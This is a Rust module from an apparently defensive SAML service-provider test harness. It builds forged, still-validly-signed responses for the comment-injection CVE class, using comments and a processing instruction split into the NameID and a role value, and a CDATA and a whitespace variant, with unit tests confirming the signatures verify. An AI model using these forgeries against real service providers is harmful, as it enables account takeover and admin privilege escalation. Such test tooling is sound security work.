//! Comment, processing-instruction and text-node injection: values an SP can read differently
//! from what the signature covers, because canonicalisation drops or keeps something its
//! text extraction does not (the class of the 2018 Duo findings: CVE-2017-11427, -11428,
//! -11429, -11430, CVE-2018-0489, CVE-2018-7340).

use std::ops::Range;

use super::probes::set_attribute;
use super::{Expected, Family, Forged, Scenario, ShapeContext, TamperContext};
use crate::saml::dsig::DsigError;
use crate::saml::ns;
use crate::saml::response::ResponseSpec;
use crate::saml::xml::{Element, Node};

/// What the IdP appends to the user's NameID: the attacker's account at the IdP is the
/// victim's identifier followed by this.
pub(super) const EVIL_SUFFIX: &str = ".evil.example";
/// The processing instruction put where the comment would go.
const PI: &str = "<?x y?>";
/// The role the IdP signs for `attribute-comment`, and the privileged value a reader of the
/// first text node alone takes from it.
const SIGNED_ROLE: &str = "admin-not";
const PRIVILEGED_ROLE: &str = "admin";

pub const ALL: &[Scenario] = &[
    Scenario {
        shape: Some(evil_name_id),
        tamper: Some(comment_in_name_id),
        forged: Some(Forged::Truncated),
        ..Scenario::new(
            "nameid-comment",
            Family::Injection,
            "Comment inside the NameID",
            "The IdP signs the NameID <user>.evil.example (an account an attacker could register at the IdP; every attribute equal to the user's NameID, such as the email, gets the same suffix), then an empty comment is inserted before .evil.example: <user><!---->.evil.example. Exclusive canonicalisation without comments drops the comment, so both signatures still verify. An SP that reads only the first text node of the NameID logs in <user>, the victim. A correct SP reads the whole text, <user>.evil.example: an account that does not exist there, which it refuses, or, if it provisions new users on first login, a new account. Either is correct, hence a policy verdict; logging in <user> is the vulnerability.",
            "CVE-2017-11427 (python-saml), CVE-2017-11428 (ruby-saml), CVE-2017-11429 (saml2-js), CVE-2017-11430 (omniauth-saml), CVE-2018-0489 (Shibboleth), CVE-2018-7340 (Duo Network Gateway); xml-exc-c14n without comments",
            Expected::Policy("a correct SP reads the whole NameID, <user>.evil.example, and never logs in <user>; it refuses that unknown account or provisions it as a new one"),
        )
    },
    Scenario {
        shape: Some(evil_name_id),
        encode: Some(pi_in_name_id),
        forged: Some(Forged::Truncated),
        ..Scenario::new(
            "nameid-processing-instruction",
            Family::Injection,
            "Processing instruction inside the NameID",
            "As nameid-comment, but the text inserted before .evil.example is a processing instruction, <?x y?>, written into the document after signing. Unlike comments, processing instructions are kept by exclusive canonicalisation, so a standard verifier (xmlsec1) finds that the digests no longer match: the signatures are broken. A correct SP therefore refuses the response, either because its parser refuses processing instructions in a SAML message or because the signature does not verify. An SP whose canonicaliser drops or mangles processing instructions and reads only the first text node logs in <user>.",
            "C14N 1.0 section 2.3 and xml-exc-c14n (processing instructions are part of the canonical form); comment-injection class CVE-2017-11427 et al.",
            Expected::Reject("the signature does not verify (canonicalisation keeps the processing instruction), or the parser refuses processing instructions"),
        )
    },
    Scenario {
        encode: Some(cdata_name_id),
        ..Scenario::new(
            "nameid-cdata",
            Family::Injection,
            "NameID wrapped in CDATA",
            "The NameID text is sent as a CDATA section, <![CDATA[<user>]]>; nothing else changes. Canonicalisation replaces a CDATA section by its characters, so both signatures verify and the NameID is the same string. An SP that treats a CDATA node as something other than text may read an empty or different NameID. Most SPs accept it as <user>; a strict one may refuse CDATA outright (saml-rs does), which is safe. Reading any other value is the bug.",
            "XML 1.0 section 2.7 (CDATA sections are character data); C14N 1.0 section 1.1 (CDATA sections replaced by their character content)",
            Expected::Policy("accepted as the same user, or refused by an SP that refuses CDATA outright; never read as a different or empty NameID"),
        )
    },
    Scenario {
        shape: Some(padded_name_id),
        ..Scenario::new(
            "nameid-whitespace",
            Family::Injection,
            "NameID with surrounding whitespace",
            "The IdP signs the NameID with a newline and a space on each side, \"\\n <user> \\n\", as some IdPs send it (the Zoho sample ends the NameID with a newline). Both signatures verify. SAML asks for an exact comparison of string values, so a strict SP sees an identifier it does not know; many SPs trim it and log in <user>. Both are acceptable. Matching any other account (say, by a prefix or a case-folded, trimmed lookup that hits someone else) is the bug.",
            "saml-core 1.3.1 (string values are compared exactly; no trimming of white space); XML 1.0 section 2.10 (white space in content is kept)",
            Expected::Policy("trims it and logs in <user>, or takes it literally as an unknown identifier; never matches another account"),
        )
    },
    Scenario {
        shape: Some(signed_role),
        tamper: Some(comment_in_role),
        ..Scenario::new(
            "attribute-comment",
            Family::Injection,
            "Comment inside an attribute value",
            "The IdP signs the role attribute with the single value admin-not (a value a user may get onto their own account through a self-service field or group), then an empty comment is inserted after admin: admin<!---->-not. Both signatures still verify (canonicalisation drops the comment). An SP that reads only the first text node sees admin and grants administrator rights. A correct SP reads admin-not, a role it does not know, and grants nothing more: it logs the user in without admin rights or refuses the unknown role, as its role mapping says.",
            "CVE-2017-11427, CVE-2017-11428 and the rest of the comment-injection class, applied to AttributeValue; xml-exc-c14n without comments",
            Expected::Policy("a correct SP reads the whole value, admin-not, and never grants admin; it logs the user in without admin rights or refuses the unknown role"),
        )
    },
];

/// The NameID becomes the attacker's look-alike identifier, and so does every attribute value
/// that repeated the user's NameID (the email, usually): the IdP describes that other account.
fn evil_name_id(spec: &mut ResponseSpec, _: &ShapeContext<'_>) {
    let Some(a) = &mut spec.assertion else { return };
    let Some(n) = &mut a.name_id else { return };
    let own = n.value.clone();
    n.value.push_str(EVIL_SUFFIX);
    for v in a.attributes.iter_mut().flat_map(|a| a.values.iter_mut()) {
        if *v == own {
            v.push_str(EVIL_SUFFIX);
        }
    }
}

fn padded_name_id(spec: &mut ResponseSpec, _: &ShapeContext<'_>) {
    if let Some(n) = spec.assertion.as_mut().and_then(|a| a.name_id.as_mut()) {
        n.value = format!("\n {} \n", n.value);
    }
}

/// The role attribute (under whichever name the SP gets it) carries only [`SIGNED_ROLE`].
fn signed_role(spec: &mut ResponseSpec, _: &ShapeContext<'_>) {
    set_attribute(
        spec,
        &["role", "roles", ns::claims::ROLE],
        "role",
        ns::claims::ROLE,
        vec![SIGNED_ROLE.to_owned()],
    );
}

fn comment_in_name_id(doc: &mut Element, _: &TamperContext<'_>) -> Result<(), DsigError> {
    if let Some(name_id) = find_mut(doc, &|e| e.name.is(ns::ASSERTION, "NameID")) {
        let text = name_id.text_content();
        if let Some(at) = text.rfind(EVIL_SUFFIX) {
            split_with_comment(name_id, at);
        }
    }
    Ok(())
}

fn comment_in_role(doc: &mut Element, _: &TamperContext<'_>) -> Result<(), DsigError> {
    let signed =
        |e: &Element| e.name.is(ns::ASSERTION, "AttributeValue") && e.text_content() == SIGNED_ROLE;
    if let Some(value) = find_mut(doc, &signed) {
        split_with_comment(value, PRIVILEGED_ROLE.len());
    }
    Ok(())
}

/// Replaces the text of `el` with the text before byte `at`, an empty comment, and the rest.
fn split_with_comment(el: &mut Element, at: usize) {
    let text = el.text_content();
    let (head, tail) = text.split_at(at);
    el.children = vec![
        Node::Text(head.to_owned()),
        Node::Comment(String::new()),
        Node::Text(tail.to_owned()),
    ];
}

/// The first element, depth first, that `pred` accepts.
fn find_mut<'a>(el: &'a mut Element, pred: &dyn Fn(&Element) -> bool) -> Option<&'a mut Element> {
    if pred(el) {
        return Some(el);
    }
    el.children.iter_mut().find_map(|n| match n {
        Node::Element(e) => find_mut(e, pred),
        _ => None,
    })
}

/// Writes the processing instruction into the NameID text, right before the suffix.
fn pi_in_name_id(xml: &mut String) {
    if let Some(text) = name_id_text(xml) {
        if let Some(at) = xml[text.clone()].rfind(EVIL_SUFFIX) {
            xml.insert_str(text.start + at, PI);
        }
    }
}

/// Rewrites the NameID text as CDATA sections with the same characters: escapes undone, and a
/// carriage return (which CDATA cannot carry: line-end handling would turn it into a line
/// feed) left as its character reference between sections.
fn cdata_name_id(xml: &mut String) {
    let Some(text) = name_id_text(xml) else {
        return;
    };
    let cdata = xml[text.clone()]
        .split("&#xD;")
        .map(|part| {
            let raw = part
                .replace("&lt;", "<")
                .replace("&gt;", ">")
                .replace("&amp;", "&");
            if raw.is_empty() {
                raw
            } else {
                format!("<![CDATA[{}]]>", raw.replace("]]>", "]]]]><![CDATA[>"))
            }
        })
        .collect::<Vec<_>>()
        .join("&#xD;");
    xml.replace_range(text, &cdata);
}

/// The byte range of the first NameID's text in a written document (`<NameID ...>` or
/// `<prefix:NameID ...>`; the NameID holds only text).
fn name_id_text(xml: &str) -> Option<Range<usize>> {
    let mut from = 0;
    while let Some(found) = xml[from..].find("NameID") {
        let at = from + found;
        from = at + "NameID".len();
        let open = xml[..at].rfind('<')?;
        let prefix = &xml[open + 1..at];
        let is_prefix = prefix.is_empty()
            || prefix.strip_suffix(':').is_some_and(|p| {
                !p.is_empty()
                    && p.chars()
                        .all(|c| c.is_alphanumeric() || matches!(c, '_' | '-' | '.'))
            });
        if is_prefix && xml[from..].starts_with([' ', '>']) {
            let start = from + xml[from..].find('>')? + 1;
            let end = start + xml[start..].find('<')?;
            return Some(start..end);
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::super::{find, testkit, VALID};
    use super::*;
    use crate::saml::dsig::VerifyError;
    use crate::saml::issue::ResponseProfile;
    use crate::saml::sp::ResponseStyle;
    use crate::saml::xml::c14n::write_document;
    use crate::saml::xml::reader::{parse, Limits, ReadError};

    const EMAIL: &str = "alice@acme-support.example";

    /// Both signatures of `xml` verify with the IdP key; returns the parsed document.
    fn both_verify(xml: &str) -> Element {
        let doc = testkit::doc(xml);
        testkit::verify(&doc, doc.attribute("ID").unwrap()).unwrap();
        let a = doc.first(ns::ASSERTION, "Assertion").unwrap();
        testkit::verify(&doc, a.attribute("ID").unwrap()).unwrap();
        doc
    }

    fn name_id(doc: &Element) -> &Element {
        doc.first(ns::ASSERTION, "Assertion")
            .and_then(|a| a.first(ns::ASSERTION, "Subject"))
            .and_then(|s| s.first(ns::ASSERTION, "NameID"))
            .unwrap()
    }

    /// What a reader of the first text node alone takes from `el`.
    fn first_text(el: &Element) -> &str {
        el.children
            .iter()
            .find_map(|n| match n {
                Node::Text(t) => Some(t.as_str()),
                _ => None,
            })
            .unwrap()
    }

    fn attribute_values(doc: &Element, name: &str) -> Vec<Element> {
        doc.first(ns::ASSERTION, "Assertion")
            .and_then(|a| a.first(ns::ASSERTION, "AttributeStatement"))
            .into_iter()
            .flat_map(|s| s.elements_named(ns::ASSERTION, "Attribute"))
            .filter(|a| a.attribute("Name") == Some(name))
            .flat_map(|a| a.elements_named(ns::ASSERTION, "AttributeValue").cloned())
            .collect()
    }

    #[test]
    fn nameid_comment_splits_the_signed_name_and_both_signatures_verify() {
        let xml = testkit::run(find("nameid-comment").unwrap()).xml;
        assert!(xml.contains(&format!(">{EMAIL}<!---->.evil.example</saml:NameID>")));
        let doc = both_verify(&xml);
        let n = name_id(&doc);
        assert_eq!(
            n.children,
            vec![
                Node::Text(EMAIL.into()),
                Node::Comment(String::new()),
                Node::Text(EVIL_SUFFIX.into()),
            ]
        );
        // The vulnerable reading and the correct one.
        assert_eq!(first_text(n), EMAIL);
        assert_eq!(n.text_content(), format!("{EMAIL}.evil.example"));
        // The IdP describes the look-alike account: its email attribute carries the suffix too,
        // with no comment.
        let email = attribute_values(&doc, "email");
        assert_eq!(email.len(), 1);
        assert_eq!(
            email[0].children,
            vec![Node::Text(format!("{EMAIL}.evil.example"))]
        );
        // Without the comment the document is exactly what was signed.
        let without: String = xml.replacen("<!---->", "", 1);
        assert!(!without.contains("<!--"));
        assert_eq!(write_document(&testkit::doc(&without)), without);
        both_verify(&without);
    }

    #[test]
    fn nameid_comment_verification_depends_on_the_comment_being_dropped() {
        // Putting the same characters in as text instead of a comment breaks the digest, so the
        // verification above is not vacuous.
        let xml = testkit::run(find("nameid-comment").unwrap()).xml;
        let as_text = xml.replacen("<!---->", "x", 1);
        let doc = testkit::doc(&as_text);
        let a = doc.first(ns::ASSERTION, "Assertion").unwrap();
        assert_eq!(
            testkit::verify(&doc, a.attribute("ID").unwrap()),
            Err(VerifyError::DigestMismatch)
        );
    }

    #[test]
    fn nameid_comment_works_in_the_adfs_style_too() {
        let profile = ResponseProfile {
            style: ResponseStyle::Adfs,
            ..Default::default()
        };
        let xml = testkit::run_with(find("nameid-comment").unwrap(), &profile).xml;
        assert!(xml.contains(&format!(">{EMAIL}<!---->.evil.example</NameID>")));
        let doc = testkit::doc(&xml);
        let a = doc.first(ns::ASSERTION, "Assertion").unwrap();
        testkit::verify(&doc, a.attribute("ID").unwrap()).unwrap();
    }

    #[test]
    fn nameid_processing_instruction_is_refused_and_breaks_the_digest() {
        let xml = testkit::run(find("nameid-processing-instruction").unwrap()).xml;
        assert!(xml.contains(&format!(">{EMAIL}<?x y?>.evil.example</saml:NameID>")));
        assert_eq!(xml.matches("<?").count(), 1);
        // Our reader refuses it outright.
        assert_eq!(
            parse(xml.as_bytes(), Limits::default()),
            Err(ReadError::ProcessingInstruction("x".into()))
        );
        // Without the instruction, the document is the signed one and both signatures verify:
        // the instruction is the only change.
        let without = xml.replacen(PI, "", 1);
        both_verify(&without);
        assert_eq!(
            without,
            testkit::run(&Scenario {
                encode: None,
                ..*find("nameid-processing-instruction").unwrap()
            })
            .xml
        );
    }

    #[test]
    fn nameid_cdata_reads_back_as_the_valid_document() {
        let valid = testkit::run(&VALID).xml;
        let xml = testkit::run(find("nameid-cdata").unwrap()).xml;
        assert!(xml.contains(&format!(
            "<saml:NameID Format=\"{}\"><![CDATA[{EMAIL}]]></saml:NameID>",
            ns::nameid::EMAIL
        )));
        assert_eq!(
            xml.replacen("<![CDATA[", "", 1).replacen("]]>", "", 1),
            valid
        );
        let doc = both_verify(&xml);
        assert_eq!(name_id(&doc).children, vec![Node::Text(EMAIL.into())]);
        // CDATA is only a way of writing text: the parsed tree is the valid response's.
        assert_eq!(write_document(&doc), valid);
    }

    #[test]
    fn cdata_keeps_escaped_characters_and_carriage_returns() {
        let mut xml =
            "<a xmlns:saml=\"urn:s\"><saml:NameID>a&amp;b&lt;c]]&gt;d&#xD;e</saml:NameID></a>"
                .to_owned();
        cdata_name_id(&mut xml);
        assert_eq!(
            xml,
            "<a xmlns:saml=\"urn:s\"><saml:NameID><![CDATA[a&b<c]]]]><![CDATA[>d]]>&#xD;<![CDATA[e]]></saml:NameID></a>"
        );
        let doc = testkit::doc(&xml);
        assert_eq!(
            doc.elements().next().unwrap().text_content(),
            "a&b<c]]>d\re"
        );
    }

    #[test]
    fn name_id_text_skips_other_names_and_end_tags() {
        let xml = "<x SPNameQualifier=\"NameID\"><p:NameIDPolicy/><NameID>v</NameID></x>";
        assert_eq!(name_id_text(xml).map(|r| &xml[r]), Some("v"));
        assert_eq!(name_id_text("<a>NameID</a>"), None);
    }

    #[test]
    fn nameid_whitespace_signs_the_padded_value() {
        let valid = testkit::run(&VALID).xml;
        let xml = testkit::run(find("nameid-whitespace").unwrap()).xml;
        let doc = both_verify(&xml);
        assert_eq!(name_id(&doc).text_content(), format!("\n {EMAIL} \n"));
        // Only the NameID changed: the padded text is the difference, the signatures aside.
        let strip = |x: &str| -> String {
            let d = testkit::doc(x);
            let mut a = d.first(ns::ASSERTION, "Assertion").unwrap().clone();
            a.children
                .retain(|n| !matches!(n, Node::Element(e) if e.name.is(ns::DSIG, "Signature")));
            write_document(&a)
        };
        assert_eq!(
            strip(&xml).replacen(&format!("\n {EMAIL} \n"), EMAIL, 1),
            strip(&valid)
        );
    }

    #[test]
    fn attribute_comment_shows_admin_to_a_first_text_reader_only() {
        let xml = testkit::run(find("attribute-comment").unwrap()).xml;
        assert!(xml.contains("<saml:AttributeValue>admin<!---->-not</saml:AttributeValue>"));
        let doc = both_verify(&xml);
        let role = attribute_values(&doc, "role");
        assert_eq!(role.len(), 1);
        assert_eq!(first_text(&role[0]), PRIVILEGED_ROLE);
        assert_eq!(role[0].text_content(), SIGNED_ROLE);
        // The NameID is the user's own.
        assert_eq!(name_id(&doc).text_content(), EMAIL);
    }

    #[test]
    fn attribute_comment_finds_the_role_claim_in_the_adfs_style() {
        let profile = ResponseProfile {
            style: ResponseStyle::Adfs,
            ..Default::default()
        };
        let xml = testkit::run_with(find("attribute-comment").unwrap(), &profile).xml;
        let doc = testkit::doc(&xml);
        let a = doc.first(ns::ASSERTION, "Assertion").unwrap();
        testkit::verify(&doc, a.attribute("ID").unwrap()).unwrap();
        let role = attribute_values(&doc, ns::claims::ROLE);
        assert_eq!(role.len(), 1);
        assert_eq!(first_text(&role[0]), PRIVILEGED_ROLE);
        assert!(attribute_values(&doc, "role").is_empty());
    }
}
